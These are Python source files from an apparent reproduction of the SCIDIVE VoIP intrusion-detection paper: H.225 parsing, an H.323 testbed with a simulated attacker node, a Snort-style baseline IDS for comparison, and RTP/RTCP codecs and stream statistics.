            raise H225Error(f"unsupported call reference length: {raw[1]}")
        crv = int.from_bytes(raw[2:4], "big")
        try:
            message_type = MessageType(raw[4])
        except ValueError as exc:
            raise H225Error(f"unknown message type: {raw[4]:#x}") from exc
        calling = called = ""
        media: Endpoint | None = None
        cause: int | None = None
        offset = 5
        while offset < len(raw):
            if offset + 2 > len(raw):
                raise H225Error("truncated IE header")
            ie_id, length = raw[offset], raw[offset + 1]
            offset += 2
            data = raw[offset : offset + length]
            if len(data) != length:
                raise H225Error("truncated IE body")
            offset += length
            if ie_id == IE.CALLING_PARTY:
                calling = data.decode("ascii", errors="replace")
            elif ie_id == IE.CALLED_PARTY:
                called = data.decode("ascii", errors="replace")
            elif ie_id == IE.FAST_START_MEDIA:
                if length != 6:
                    raise H225Error(f"bad media IE length: {length}")
                media = Endpoint(IPv4Address.from_bytes(data[:4]), int.from_bytes(data[4:], "big"))
            elif ie_id == IE.CAUSE:
                cause = data[0] if data else None
            # Unknown IEs are skipped, per Q.931 comprehension rules.
        return cls(
            message_type=message_type,
            call_reference=crv,
            calling_party=calling,
            called_party=called,
            media=media,
            cause=cause,
        )


def looks_like_h225(payload: bytes) -> bool:
    """Cheap sniff: Q.931 discriminator + CRV length + known type."""
    return (
        len(payload) >= 5
        and payload[0] == Q931_PROTOCOL_DISCRIMINATOR
        and payload[1] == 2
        and payload[4] in MessageType._value2member_map_
    )
