"""H.323 substrate (compact): H.225 call signalling, RAS gatekeeper,
fast-connect terminals — the second call-management protocol class the
paper says SCIDIVE handles."""

from repro.h323.endpoint import H323Call, H323CallState, H323Endpoint
from repro.h323.h225 import H225_PORT, H225Error, H225Message, IE, MessageType, looks_like_h225
from repro.h323.ras import RAS_PORT, Gatekeeper, RasMessage, RasType

__all__ = [
    "Gatekeeper",
    "H225Error",
    "H225Message",
    "H225_PORT",
    "H323Call",
    "H323CallState",
    "H323Endpoint",
    "IE",
    "MessageType",
    "RAS_PORT",
    "RasMessage",
    "RasType",
    "looks_like_h225",
]
