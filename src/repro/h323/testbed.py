"""The H.323 flavour of the Figure-4 testbed.

Same shape as :class:`repro.voip.testbed.Testbed`, with H.323 pieces:
a gatekeeper (paper §2.1: address translation + admission), two
terminals, the attacker with its promiscuous eye, and the SCIDIVE tap.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.h323.endpoint import H323Endpoint
from repro.h323.ras import Gatekeeper
from repro.net.addr import Endpoint
from repro.net.capture import Sniffer
from repro.net.stack import HostStack
from repro.sim.link import LinkModel
from repro.sim.network import Network

GATEKEEPER_IP = "10.1.0.1"
TERMINAL_A_IP = "10.1.0.10"
TERMINAL_B_IP = "10.1.0.20"
ATTACKER_IP = "10.1.0.66"


@dataclass(slots=True)
class H323TestbedConfig:
    seed: int = 7
    answer_delay: float = 0.2
    link: LinkModel | None = None


class H323Testbed:
    """Two H.323 terminals, a gatekeeper, an attacker, and the IDS tap."""

    def __init__(self, config: H323TestbedConfig | None = None) -> None:
        self.config = config if config is not None else H323TestbedConfig()
        self.network = Network(seed=self.config.seed)
        self.loop = self.network.loop
        self.hub = self.network.add_hub("h323-hub")

        self.gk_stack = self._host("gatekeeper", GATEKEEPER_IP)
        self.gatekeeper = Gatekeeper(self.gk_stack)

        self.stack_a = self._host("terminalA", TERMINAL_A_IP)
        self.stack_b = self._host("terminalB", TERMINAL_B_IP)
        self.terminal_a = H323Endpoint(
            self.stack_a, self.loop, alias="alice",
            gatekeeper=self.gatekeeper.endpoint,
            answer_delay=self.config.answer_delay, tone_hz=440.0,
        )
        self.terminal_b = H323Endpoint(
            self.stack_b, self.loop, alias="bob",
            gatekeeper=self.gatekeeper.endpoint,
            answer_delay=self.config.answer_delay, tone_hz=880.0,
        )

        self.attacker_stack = self._host("attacker", ATTACKER_IP)
        self.attacker_eye = Sniffer("attacker-eye", self.loop, mac="02:0f:0f:0f:0f:12")
        self.hub.attach(self.attacker_eye.iface, self.config.link)

        self.ids_tap = Sniffer("scidive-tap", self.loop, mac="02:0f:0f:0f:0f:11")
        self.hub.attach(self.ids_tap.iface, self.config.link)

        self._populate_arp()

    def _host(self, name: str, ip: str) -> HostStack:
        stack = HostStack(name, self.loop, ip=ip, mac=self.network.next_mac())
        self.network.register(stack)
        self.hub.attach(stack.iface, self.config.link)
        return stack

    def _populate_arp(self) -> None:
        stacks = [node for node in self.network.nodes if isinstance(node, HostStack)]
        for stack in stacks:
            for other in stacks:
                if other is not stack:
                    stack.add_arp_entry(other.ip, other.iface.mac)

    def register_all(self, settle: float = 0.5) -> None:
        self.terminal_a.register()
        self.terminal_b.register()
        self.network.run_for(settle)

    def run_for(self, seconds: float) -> None:
        self.network.run_for(seconds)

    def now(self) -> float:
        return self.loop.now()
