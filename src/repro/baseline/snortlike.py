"""A Snort-style stateless signature IDS — the comparison baseline.

The paper (§3.3, §5) argues that a traditional per-packet IDS must
either miss VoIP attacks or drown in false alarms because it lacks
session isolation and request/response correlation: "Since 4XX responses
are not uncommon in a normal session, a traditional IDS like Snort with
a rule to detect multiple 4XX responses may flag a large number of
false alarms."

This baseline is deliberately faithful to that design point: each packet
is judged on its own (plus global, session-blind counters).  It shares
the Distiller's *decoders* (a fair fight — parsing quality is not the
variable under test) but none of its trails, state or events.
"""

from __future__ import annotations

from abc import ABC, abstractmethod
from collections import deque
from dataclasses import dataclass, field

from repro.core.alerts import Alert, AlertLog, Severity
from repro.core.distiller import Distiller
from repro.core.footprint import (
    AnyFootprint,
    MalformedFootprint,
    Protocol,
    RtpFootprint,
    SipFootprint,
)
from repro.sim.trace import Trace


class PacketRule(ABC):
    """A stateless (or session-blind counting) per-packet rule."""

    def __init__(self, rule_id: str, name: str, severity: Severity) -> None:
        self.rule_id = rule_id
        self.name = name
        self.severity = severity

    @abstractmethod
    def check(self, footprint: AnyFootprint) -> str | None:
        """Return an alert message, or None."""


class FourXXFloodRule(PacketRule):
    """Alarm on ≥ threshold SIP 4XX responses within a window — globally.

    This is the strawman from §3.3: no per-session isolation, no pairing
    of responses with the requests that elicited them.
    """

    def __init__(self, threshold: int = 3, window: float = 10.0) -> None:
        super().__init__("SNORT-4XX", "Multiple 4XX responses", Severity.MEDIUM)
        self.threshold = threshold
        self.window = window
        self._times: deque[float] = deque()

    def check(self, footprint: AnyFootprint) -> str | None:
        if not isinstance(footprint, SipFootprint):
            return None
        status = footprint.status
        if status is None or not 400 <= status <= 499:
            return None
        self._times.append(footprint.timestamp)
        while self._times and self._times[0] < footprint.timestamp - self.window:
            self._times.popleft()
        if len(self._times) >= self.threshold:
            return f"{len(self._times)} SIP 4XX responses within {self.window}s"
        return None


class ByeSignatureRule(PacketRule):
    """Alarm on every SIP BYE — the only stateless option for BYE attacks.

    A stateless IDS cannot tell a forged BYE from a legitimate hangup;
    enabling this rule means every normal call teardown alarms.  It is
    included to quantify that trade-off, not as a serious rule.
    """

    def __init__(self) -> None:
        super().__init__("SNORT-BYE", "SIP BYE observed", Severity.LOW)

    def check(self, footprint: AnyFootprint) -> str | None:
        if isinstance(footprint, SipFootprint) and footprint.is_request:
            if footprint.method == "BYE":
                return "SIP BYE packet (cannot distinguish forged from real)"
        return None


class MalformedPacketRule(PacketRule):
    """Alarm on undecodable payloads — per packet, no source aggregation."""

    def __init__(self) -> None:
        super().__init__("SNORT-MALFORMED", "Malformed VoIP packet", Severity.MEDIUM)

    def check(self, footprint: AnyFootprint) -> str | None:
        if isinstance(footprint, MalformedFootprint):
            return f"undecodable {footprint.claimed_protocol.value} packet: {footprint.reason}"
        return None


class RtpPayloadSignatureRule(PacketRule):
    """Alarm on RTP packets with a non-audio payload type.

    Content signature only — random garbage that happens to parse with
    PT 0 sails through, which is the point being measured.
    """

    def __init__(self, allowed_payload_types: frozenset[int] = frozenset({0, 8})) -> None:
        super().__init__("SNORT-RTP-PT", "Unexpected RTP payload type", Severity.LOW)
        self.allowed = allowed_payload_types

    def check(self, footprint: AnyFootprint) -> str | None:
        if isinstance(footprint, RtpFootprint) and footprint.payload_type not in self.allowed:
            return f"RTP payload type {footprint.payload_type} not in codec profile"
        return None


@dataclass(slots=True)
class BaselineStats:
    frames: int = 0
    footprints: int = 0
    alerts: int = 0


def default_packet_rules(include_bye: bool = True) -> list[PacketRule]:
    """The full strawman rule list for quality comparisons.

    ``include_bye`` adds the every-BYE signature — the only stateless
    answer to the BYE attack, included so the detection-quality report
    can quantify its false-alarm cost on benign teardowns.
    """
    rules: list[PacketRule] = [
        FourXXFloodRule(),
        MalformedPacketRule(),
        RtpPayloadSignatureRule(),
    ]
    if include_bye:
        rules.insert(1, ByeSignatureRule())
    return rules


class SnortLikeIds:
    """The assembled baseline engine."""

    def __init__(self, rules: list[PacketRule] | None = None) -> None:
        self.distiller = Distiller()
        self.rules: list[PacketRule] = (
            rules
            if rules is not None
            else [
                FourXXFloodRule(),
                MalformedPacketRule(),
                RtpPayloadSignatureRule(),
            ]
        )
        self.alert_log = AlertLog()
        self.stats = BaselineStats()

    def process_frame(self, frame: bytes, timestamp: float) -> list[Alert]:
        self.stats.frames += 1
        footprint = self.distiller.distill(frame, timestamp)
        if footprint is None:
            return []
        self.stats.footprints += 1
        alerts: list[Alert] = []
        for rule in self.rules:
            message = rule.check(footprint)
            if message is not None:
                alert = Alert(
                    rule_id=rule.rule_id,
                    rule_name=rule.name,
                    time=timestamp,
                    session="",  # stateless: no session attribution
                    severity=rule.severity,
                    attack_class="signature",
                    message=message,
                )
                self.alert_log.emit(alert)
                alerts.append(alert)
        self.stats.alerts += len(alerts)
        return alerts

    def process_trace(self, trace: Trace) -> list[Alert]:
        before = len(self.alert_log)
        for record in trace:
            self.process_frame(record.frame, record.timestamp)
        return self.alert_log.alerts[before:]

    @property
    def alerts(self) -> list[Alert]:
        return self.alert_log.alerts
