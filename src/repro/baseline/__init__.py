"""Stateless per-packet baseline IDS (Snort-style) for comparison."""

from repro.baseline.snortlike import (
    ByeSignatureRule,
    FourXXFloodRule,
    MalformedPacketRule,
    PacketRule,
    RtpPayloadSignatureRule,
    SnortLikeIds,
)

__all__ = [
    "ByeSignatureRule",
    "FourXXFloodRule",
    "MalformedPacketRule",
    "PacketRule",
    "RtpPayloadSignatureRule",
    "SnortLikeIds",
]
