"""RTP sessions: paced senders and stateful receivers over UDP.

An :class:`RtpSession` owns a UDP port pair (RTP on an even port, RTCP
on the next odd port, per convention), sends one codec frame every 20 ms
toward the negotiated remote endpoint, and feeds incoming packets into
per-SSRC statistics plus a playout buffer.  SIP signalling (the soft-
phone layer) starts/stops/redirects sessions — redirection on re-INVITE
is precisely the behaviour the Call Hijack attack abuses.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import Callable, Protocol

from repro.net.addr import Endpoint
from repro.net.stack import HostStack, UdpSocket
from repro.rtp import rtcp
from repro.rtp.codec import FRAME_DURATION, SAMPLES_PER_FRAME, ToneSource
from repro.rtp.jitter import PlayoutBuffer
from repro.rtp.packet import PT_PCMU, RtpError, RtpPacket
from repro.rtp.stats import StreamStats
from repro.sim.eventloop import EventHandle, EventLoop


class FrameSource(Protocol):
    def next_frame(self) -> bytes: ...


@dataclass(slots=True)
class SenderState:
    ssrc: int
    sequence: int
    timestamp: int
    packets_sent: int = 0
    octets_sent: int = 0


class RtpSession:
    """One bidirectional audio session bound to a host."""

    def __init__(
        self,
        stack: HostStack,
        loop: EventLoop,
        local_port: int,
        rng: random.Random | None = None,
        source: FrameSource | None = None,
        payload_type: int = PT_PCMU,
        rtcp_interval: float = 1.0,
    ) -> None:
        if local_port % 2:
            raise ValueError(f"RTP port must be even: {local_port}")
        self.stack = stack
        self.loop = loop
        self.local_port = local_port
        self.rng = rng if rng is not None else random.Random(stack.name.__hash__() & 0xFFFF)
        self.source: FrameSource = source if source is not None else ToneSource()
        self.payload_type = payload_type
        self.rtcp_interval = rtcp_interval
        self.rtp_socket: UdpSocket = stack.bind(local_port, self._on_rtp)
        self.rtcp_socket: UdpSocket = stack.bind(local_port + 1, self._on_rtcp)
        self.remote: Endpoint | None = None
        self.sender = SenderState(
            ssrc=self.rng.getrandbits(32),
            sequence=self.rng.getrandbits(16),
            timestamp=self.rng.getrandbits(32),
        )
        self.streams: dict[int, StreamStats] = {}
        self.playout = PlayoutBuffer()
        self.decode_errors = 0
        self.rtcp_received: list[rtcp.RtcpPacket] = []
        self.terminated_ssrcs: set[int] = set()
        self.on_packet: Callable[[RtpPacket, Endpoint, float], None] | None = None
        self._send_handle: EventHandle | None = None
        self._rtcp_handle: EventHandle | None = None
        self._playout_handle: EventHandle | None = None
        self.sending = False

    # -- control -----------------------------------------------------------

    def start_sending(self, remote: Endpoint) -> None:
        """Begin the 20 ms frame cadence toward ``remote``."""
        self.remote = remote
        if self.sending:
            return
        self.sending = True
        self._send_frame()
        self._rtcp_handle = self.loop.call_later(self.rtcp_interval, self._send_rtcp)
        self._playout_handle = self.loop.call_later(FRAME_DURATION, self._playout_tick)

    def redirect(self, remote: Endpoint) -> None:
        """Point the outgoing stream at a new endpoint (mobility/hijack)."""
        self.remote = remote

    def stop_sending(self, send_bye: bool = True) -> None:
        if not self.sending:
            return
        self.sending = False
        for handle in (self._send_handle, self._rtcp_handle, self._playout_handle):
            if handle is not None:
                handle.cancel()
        if send_bye and self.remote is not None:
            bye = rtcp.Bye(ssrcs=(self.sender.ssrc,), reason="session ended")
            self.rtcp_socket.send_to(Endpoint(self.remote.ip, self.remote.port + 1), bye.encode())

    def close(self) -> None:
        self.stop_sending(send_bye=False)
        self.rtp_socket.close()
        self.rtcp_socket.close()

    # -- sender ----------------------------------------------------------------

    def _send_frame(self) -> None:
        if not self.sending or self.remote is None:
            return
        payload = self.source.next_frame()
        packet = RtpPacket(
            payload_type=self.payload_type,
            sequence=self.sender.sequence,
            timestamp=self.sender.timestamp,
            ssrc=self.sender.ssrc,
            payload=payload,
            marker=self.sender.packets_sent == 0,
        )
        self.rtp_socket.send_to(self.remote, packet.encode())
        self.sender.sequence = (self.sender.sequence + 1) & 0xFFFF
        self.sender.timestamp = (self.sender.timestamp + SAMPLES_PER_FRAME) & 0xFFFFFFFF
        self.sender.packets_sent += 1
        self.sender.octets_sent += len(payload)
        self._send_handle = self.loop.call_later(FRAME_DURATION, self._send_frame)

    def _send_rtcp(self) -> None:
        if not self.sending or self.remote is None:
            return
        now = self.loop.now()
        ntp = int(now * (1 << 32))  # seconds . fraction, epoch = sim start
        # The RC field is 5 bits (RFC 3550 §6.4.1): at most 31 report
        # blocks fit in one SR.  Under an SSRC flood we report on the 31
        # most recently learned sources rather than overflowing the header.
        reported = list(self.streams.values())[-31:]
        reports = tuple(
            rtcp.ReportBlock(
                ssrc=stats.ssrc,
                fraction_lost=int(stats.fraction_lost * 255),
                cumulative_lost=max(0, stats.lost) & 0xFFFFFF,
                highest_seq=stats.extended_max_seq,
                jitter=int(stats.jitter.jitter),
            )
            for stats in reported
        )
        sr = rtcp.SenderReport(
            ssrc=self.sender.ssrc,
            ntp_timestamp=ntp & 0xFFFFFFFFFFFFFFFF,
            rtp_timestamp=self.sender.timestamp,
            packet_count=self.sender.packets_sent,
            octet_count=self.sender.octets_sent,
            reports=reports,
        )
        sdes = rtcp.SourceDescription(
            ssrc=self.sender.ssrc, cname=f"{self.stack.name}@{self.stack.ip}"
        )
        compound = sr.encode() + sdes.encode()
        self.rtcp_socket.send_to(Endpoint(self.remote.ip, self.remote.port + 1), compound)
        self._rtcp_handle = self.loop.call_later(self.rtcp_interval, self._send_rtcp)

    # -- receiver -----------------------------------------------------------------

    def _on_rtp(self, payload: bytes, src: Endpoint, now: float) -> None:
        try:
            packet = RtpPacket.decode(payload)
        except RtpError:
            self.decode_errors += 1
            return
        stats = self.streams.get(packet.ssrc)
        if stats is None:
            stats = StreamStats(ssrc=packet.ssrc)
            self.streams[packet.ssrc] = stats
        stats.update(packet, now)
        self.playout.push(packet)
        if self.on_packet is not None:
            self.on_packet(packet, src, now)

    def _playout_tick(self) -> None:
        if not self.sending:
            return
        self.playout.pop_ready()
        self._playout_handle = self.loop.call_later(FRAME_DURATION, self._playout_tick)

    def _on_rtcp(self, payload: bytes, src: Endpoint, now: float) -> None:
        try:
            packets = rtcp.decode_compound(payload)
        except rtcp.RtcpError:
            self.decode_errors += 1
            return
        self.rtcp_received.extend(packets)
        for packet in packets:
            if isinstance(packet, rtcp.Bye):
                # A real client removes the participant: subsequent audio
                # from these SSRCs would be discarded/unrendered.  A
                # forged BYE therefore mutes a live talker.
                self.terminated_ssrcs.update(packet.ssrcs)

    # -- introspection ----------------------------------------------------------------

    @property
    def total_received(self) -> int:
        return sum(s.packets_received for s in self.streams.values())

    def primary_stream(self) -> StreamStats | None:
        """The stream with the most packets (the talking peer)."""
        if not self.streams:
            return None
        return max(self.streams.values(), key=lambda s: s.packets_received)
