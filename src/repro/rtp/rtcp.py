"""RTCP codec (RFC 3550 §6): SR, RR, SDES and BYE packets.

The paper lists RTCP among the protocols a cross-protocol rule may chain
over ("a pattern in a SIP packet followed by one in a succeeding RTP
packet followed by one in an RTCP packet"), so the substrate speaks real
RTCP: senders emit SR+SDES compounds, receivers emit RR, and stream ends
emit BYE.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass, field

RTCP_VERSION = 2

PT_SR = 200
PT_RR = 201
PT_SDES = 202
PT_BYE = 203

SDES_CNAME = 1


class RtcpError(ValueError):
    """Raised when bytes cannot be decoded as RTCP."""


@dataclass(frozen=True, slots=True)
class ReportBlock:
    """One reception report block inside an SR/RR."""

    ssrc: int
    fraction_lost: int  # 0..255
    cumulative_lost: int
    highest_seq: int
    jitter: int
    last_sr: int = 0
    delay_since_last_sr: int = 0

    _STRUCT = struct.Struct("!IIIIII")

    def encode(self) -> bytes:
        lost24 = self.cumulative_lost & 0xFFFFFF
        word1 = (self.fraction_lost << 24) | lost24
        return self._STRUCT.pack(
            self.ssrc, word1, self.highest_seq, self.jitter, self.last_sr, self.delay_since_last_sr
        )

    @classmethod
    def decode(cls, raw: bytes) -> "ReportBlock":
        if len(raw) < 24:
            raise RtcpError(f"report block too short: {len(raw)}")
        ssrc, word1, highest_seq, jitter, last_sr, dlsr = cls._STRUCT.unpack_from(raw)
        return cls(
            ssrc=ssrc,
            fraction_lost=word1 >> 24,
            cumulative_lost=word1 & 0xFFFFFF,
            highest_seq=highest_seq,
            jitter=jitter,
            last_sr=last_sr,
            delay_since_last_sr=dlsr,
        )


@dataclass(frozen=True, slots=True)
class SenderReport:
    ssrc: int
    ntp_timestamp: int  # 64-bit NTP
    rtp_timestamp: int
    packet_count: int
    octet_count: int
    reports: tuple[ReportBlock, ...] = field(default=())

    def encode(self) -> bytes:
        body = struct.pack(
            "!IQIII",
            self.ssrc,
            self.ntp_timestamp,
            self.rtp_timestamp,
            self.packet_count,
            self.octet_count,
        )
        body += b"".join(r.encode() for r in self.reports)
        return _pack_header(PT_SR, len(self.reports), body) + body


@dataclass(frozen=True, slots=True)
class ReceiverReport:
    ssrc: int
    reports: tuple[ReportBlock, ...] = field(default=())

    def encode(self) -> bytes:
        body = struct.pack("!I", self.ssrc) + b"".join(r.encode() for r in self.reports)
        return _pack_header(PT_RR, len(self.reports), body) + body


@dataclass(frozen=True, slots=True)
class SourceDescription:
    """SDES with a single chunk carrying CNAME (the common case)."""

    ssrc: int
    cname: str

    def encode(self) -> bytes:
        cname_bytes = self.cname.encode("utf-8")
        if len(cname_bytes) > 255:
            raise RtcpError(f"CNAME too long: {len(cname_bytes)}")
        chunk = struct.pack("!I", self.ssrc) + bytes([SDES_CNAME, len(cname_bytes)]) + cname_bytes
        chunk += b"\x00"  # end of items
        while len(chunk) % 4:
            chunk += b"\x00"
        return _pack_header(PT_SDES, 1, chunk) + chunk


@dataclass(frozen=True, slots=True)
class Bye:
    ssrcs: tuple[int, ...]
    reason: str = ""

    def encode(self) -> bytes:
        body = b"".join(s.to_bytes(4, "big") for s in self.ssrcs)
        if self.reason:
            reason_bytes = self.reason.encode("utf-8")
            body += bytes([len(reason_bytes)]) + reason_bytes
            while len(body) % 4:
                body += b"\x00"
        return _pack_header(PT_BYE, len(self.ssrcs), body) + body


RtcpPacket = SenderReport | ReceiverReport | SourceDescription | Bye


def _pack_header(pt: int, count: int, body: bytes) -> bytes:
    if count > 31:
        # The RC/SC field is 5 bits (RFC 3550 §6.4.1); senders with more
        # sources must emit multiple report packets.
        raise RtcpError(f"RTCP count field overflow: {count} > 31")
    if len(body) % 4:
        raise RtcpError(f"RTCP body not 32-bit aligned: {len(body)}")
    length_words = len(body) // 4  # header itself excluded, per RFC: (total/4)-1
    return struct.pack("!BBH", (RTCP_VERSION << 6) | count, pt, length_words)


def decode_compound(raw: bytes) -> list[RtcpPacket]:
    """Decode a compound RTCP datagram into its constituent packets."""
    packets: list[RtcpPacket] = []
    offset = 0
    while offset < len(raw):
        if len(raw) - offset < 4:
            raise RtcpError(f"trailing bytes too short for RTCP header: {len(raw) - offset}")
        b0, pt, length_words = struct.unpack_from("!BBH", raw, offset)
        if b0 >> 6 != RTCP_VERSION:
            raise RtcpError(f"not RTCP version 2: {b0 >> 6}")
        count = b0 & 0x1F
        total = 4 + 4 * length_words
        body = raw[offset + 4 : offset + total]
        if len(body) != 4 * length_words:
            raise RtcpError("truncated RTCP packet")
        packets.append(_decode_one(pt, count, body))
        offset += total
    return packets


def _decode_one(pt: int, count: int, body: bytes) -> RtcpPacket:
    if pt == PT_SR:
        if len(body) < 24:
            raise RtcpError(f"SR too short: {len(body)}")
        ssrc, ntp, rtp_ts, pkts, octets = struct.unpack_from("!IQIII", body)
        reports = tuple(
            ReportBlock.decode(body[24 + 24 * i : 48 + 24 * i]) for i in range(count)
        )
        return SenderReport(ssrc, ntp, rtp_ts, pkts, octets, reports)
    if pt == PT_RR:
        if len(body) < 4:
            raise RtcpError(f"RR too short: {len(body)}")
        (ssrc,) = struct.unpack_from("!I", body)
        reports = tuple(ReportBlock.decode(body[4 + 24 * i : 28 + 24 * i]) for i in range(count))
        return ReceiverReport(ssrc, reports)
    if pt == PT_SDES:
        if len(body) < 6:
            raise RtcpError(f"SDES too short: {len(body)}")
        (ssrc,) = struct.unpack_from("!I", body)
        item_type = body[4]
        if item_type != SDES_CNAME:
            return SourceDescription(ssrc, "")
        length = body[5]
        cname = body[6 : 6 + length].decode("utf-8", errors="replace")
        return SourceDescription(ssrc, cname)
    if pt == PT_BYE:
        ssrcs = tuple(
            int.from_bytes(body[4 * i : 4 * i + 4], "big") for i in range(count)
        )
        reason = ""
        tail = body[4 * count :]
        if tail:
            rlen = tail[0]
            reason = tail[1 : 1 + rlen].decode("utf-8", errors="replace")
        return Bye(ssrcs, reason)
    raise RtcpError(f"unknown RTCP packet type: {pt}")


def looks_like_rtcp(payload: bytes) -> bool:
    """Distinguish RTCP from RTP: version 2 + PT in the RTCP range."""
    return len(payload) >= 4 and (payload[0] >> 6) == RTCP_VERSION and 200 <= payload[1] <= 204
