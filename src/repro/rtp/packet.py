"""RTP packet codec (RFC 3550 §5.1).

The RTP attack in the paper injects packets whose "header and payload are
filled with random bytes"; detection keys off the sequence-number field.
The codec therefore validates the version bits strictly (garbage usually
fails them) while still exposing the raw header fields the IDS inspects.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass, field

RTP_VERSION = 2
_RTP_HEADER = struct.Struct("!BBHII")

PT_PCMU = 0  # G.711 mu-law
PT_PCMA = 8  # G.711 A-law


class RtpError(ValueError):
    """Raised when bytes cannot be decoded as RTP."""


@dataclass(frozen=True, slots=True)
class RtpPacket:
    """One RTP packet."""

    payload_type: int
    sequence: int
    timestamp: int
    ssrc: int
    payload: bytes
    marker: bool = False
    csrcs: tuple[int, ...] = field(default=())
    padding: bool = False
    extension: bool = False

    def __post_init__(self) -> None:
        if not 0 <= self.payload_type <= 0x7F:
            raise RtpError(f"payload type out of range: {self.payload_type}")
        if not 0 <= self.sequence <= 0xFFFF:
            raise RtpError(f"sequence out of range: {self.sequence}")
        if not 0 <= self.timestamp <= 0xFFFFFFFF:
            raise RtpError(f"timestamp out of range: {self.timestamp}")
        if not 0 <= self.ssrc <= 0xFFFFFFFF:
            raise RtpError(f"SSRC out of range: {self.ssrc}")
        if len(self.csrcs) > 15:
            raise RtpError(f"too many CSRCs: {len(self.csrcs)}")

    def encode(self) -> bytes:
        b0 = (RTP_VERSION << 6) | (int(self.padding) << 5) | (int(self.extension) << 4) | len(self.csrcs)
        b1 = (int(self.marker) << 7) | self.payload_type
        header = _RTP_HEADER.pack(b0, b1, self.sequence, self.timestamp, self.ssrc)
        csrcs = b"".join(c.to_bytes(4, "big") for c in self.csrcs)
        return header + csrcs + self.payload

    @classmethod
    def decode(cls, raw: bytes) -> "RtpPacket":
        if len(raw) < _RTP_HEADER.size:
            raise RtpError(f"packet too short for RTP: {len(raw)} bytes")
        b0, b1, sequence, timestamp, ssrc = _RTP_HEADER.unpack_from(raw)
        version = b0 >> 6
        if version != RTP_VERSION:
            raise RtpError(f"not RTP version 2: version={version}")
        cc = b0 & 0x0F
        offset = _RTP_HEADER.size + 4 * cc
        if len(raw) < offset:
            raise RtpError(f"truncated CSRC list: {len(raw)} bytes, cc={cc}")
        csrcs = tuple(
            int.from_bytes(raw[_RTP_HEADER.size + 4 * i : _RTP_HEADER.size + 4 * i + 4], "big")
            for i in range(cc)
        )
        extension = bool(b0 & 0x10)
        if extension:
            if len(raw) < offset + 4:
                raise RtpError("truncated extension header")
            ext_len_words = int.from_bytes(raw[offset + 2 : offset + 4], "big")
            offset += 4 + 4 * ext_len_words
            if len(raw) < offset:
                raise RtpError("truncated extension body")
        payload = raw[offset:]
        padding = bool(b0 & 0x20)
        if padding and payload:
            pad_len = payload[-1]
            if pad_len == 0 or pad_len > len(payload):
                raise RtpError(f"bad padding length: {pad_len}")
            payload = payload[:-pad_len]
        return cls(
            payload_type=b1 & 0x7F,
            sequence=sequence,
            timestamp=timestamp,
            ssrc=ssrc,
            payload=payload,
            marker=bool(b1 & 0x80),
            csrcs=csrcs,
            padding=padding,
            extension=extension,
        )


def looks_like_rtp(payload: bytes) -> bool:
    """Cheap sniff used by the Distiller: version bits + sane length."""
    return len(payload) >= _RTP_HEADER.size and (payload[0] >> 6) == RTP_VERSION


def seq_delta(later: int, earlier: int) -> int:
    """Signed distance ``later - earlier`` in 16-bit sequence space.

    Returns a value in ``[-32768, 32767]``; positive means ``later`` is
    ahead of ``earlier`` after unwrapping.  The paper's RTP rule alarms
    when consecutive packets differ by more than 100.
    """
    return ((later - earlier + 0x8000) & 0xFFFF) - 0x8000
