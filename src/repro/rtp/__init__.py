"""RTP media substrate: packet/RTCP codecs, G.711, jitter machinery,
receiver statistics and paced sessions."""

from repro.rtp.codec import (
    FRAME_DURATION,
    SAMPLE_RATE,
    SAMPLES_PER_FRAME,
    SilenceSource,
    ToneSource,
    mulaw_decode,
    mulaw_encode,
)
from repro.rtp.jitter import JitterEstimator, PlayoutBuffer, PlayoutStats
from repro.rtp.packet import PT_PCMA, PT_PCMU, RtpError, RtpPacket, looks_like_rtp, seq_delta
from repro.rtp.rtcp import (
    Bye,
    ReceiverReport,
    ReportBlock,
    RtcpError,
    SenderReport,
    SourceDescription,
    decode_compound,
    looks_like_rtcp,
)
from repro.rtp.session import RtpSession
from repro.rtp.stats import StreamStats

__all__ = [
    "Bye",
    "FRAME_DURATION",
    "JitterEstimator",
    "PT_PCMA",
    "PT_PCMU",
    "PlayoutBuffer",
    "PlayoutStats",
    "ReceiverReport",
    "ReportBlock",
    "RtcpError",
    "RtpError",
    "RtpPacket",
    "RtpSession",
    "SAMPLE_RATE",
    "SAMPLES_PER_FRAME",
    "SenderReport",
    "SilenceSource",
    "SourceDescription",
    "StreamStats",
    "ToneSource",
    "decode_compound",
    "looks_like_rtcp",
    "looks_like_rtp",
    "mulaw_decode",
    "mulaw_encode",
    "seq_delta",
]
