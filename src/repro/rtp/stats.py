"""Receiver-side RTP stream statistics (RFC 3550 appendix A.1 style).

Tracks the extended highest sequence number, cumulative loss, and the
jitter estimate — the inputs for RTCP receiver reports and for the IDS's
media-quality events.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.rtp.jitter import JitterEstimator
from repro.rtp.packet import RtpPacket, seq_delta


@dataclass(slots=True)
class StreamStats:
    """Statistics for one incoming SSRC."""

    ssrc: int
    packets_received: int = 0
    octets_received: int = 0
    base_seq: int | None = None
    max_seq: int = 0
    cycles: int = 0  # sequence wraparounds, in units of 65536
    jitter: JitterEstimator = field(default_factory=JitterEstimator)
    reordered: int = 0
    duplicates: int = 0
    _seen_recent: set[int] = field(default_factory=set)

    def update(self, packet: RtpPacket, arrival_time: float) -> None:
        if packet.ssrc != self.ssrc:
            raise ValueError(f"packet SSRC {packet.ssrc:#x} != stream {self.ssrc:#x}")
        self.packets_received += 1
        self.octets_received += len(packet.payload)
        self.jitter.update(arrival_time, packet.timestamp)
        if self.base_seq is None:
            self.base_seq = packet.sequence
            self.max_seq = packet.sequence
            self._remember(packet.sequence)
            return
        delta = seq_delta(packet.sequence, self.max_seq)
        if delta > 0:
            if packet.sequence < self.max_seq:
                self.cycles += 1  # wrapped
            self.max_seq = packet.sequence
        elif delta < 0:
            if packet.sequence in self._seen_recent:
                self.duplicates += 1
            else:
                self.reordered += 1
        else:
            self.duplicates += 1
        self._remember(packet.sequence)

    def _remember(self, seq: int) -> None:
        self._seen_recent.add(seq)
        if len(self._seen_recent) > 512:
            self._seen_recent.clear()
            self._seen_recent.add(seq)

    @property
    def extended_max_seq(self) -> int:
        return (self.cycles << 16) | self.max_seq

    @property
    def expected(self) -> int:
        if self.base_seq is None:
            return 0
        return self.extended_max_seq - self.base_seq + 1

    @property
    def lost(self) -> int:
        """Cumulative loss estimate (can be negative with duplicates)."""
        return self.expected - self.packets_received

